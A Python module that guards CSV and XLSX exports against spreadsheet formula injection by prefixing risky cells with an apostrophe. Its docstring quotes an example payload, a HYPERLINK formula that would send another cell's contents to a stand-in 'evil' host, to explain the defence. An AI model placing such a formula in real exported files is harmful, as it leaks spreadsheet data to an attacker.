"""Cells written to CSV or XLSX files that people open in a spreadsheet (OWASP "CSV injection").

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula, which can run commands or leak other cells: a debtor named
``=HYPERLINK("https://evil/?"&A1)`` must come out as text. Such a cell gets a leading apostrophe, which
the spreadsheet shows as text. Numbers (a negative amount) are left alone: they are not formulas.
Every exporter writes through `csv_writer` or `safe_row`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` whose rows go through `safe_row`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)


def xlsx_bytes(sheets: Mapping[str, Iterable[Iterable[Any]]]) -> bytes:
    """An XLSX workbook with one sheet per entry (title → rows), every row through `safe_row`.

    Amounts stay `Decimal` (openpyxl writes them as numbers, never through a float)."""
    from openpyxl import Workbook  # only exporters pay for importing openpyxl

    book = Workbook()
    first = True
    for title, rows in sheets.items():
        sheet = book.active if first else book.create_sheet()
        first = False
        sheet.title = title
        for row in rows:
            sheet.append(safe_row(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
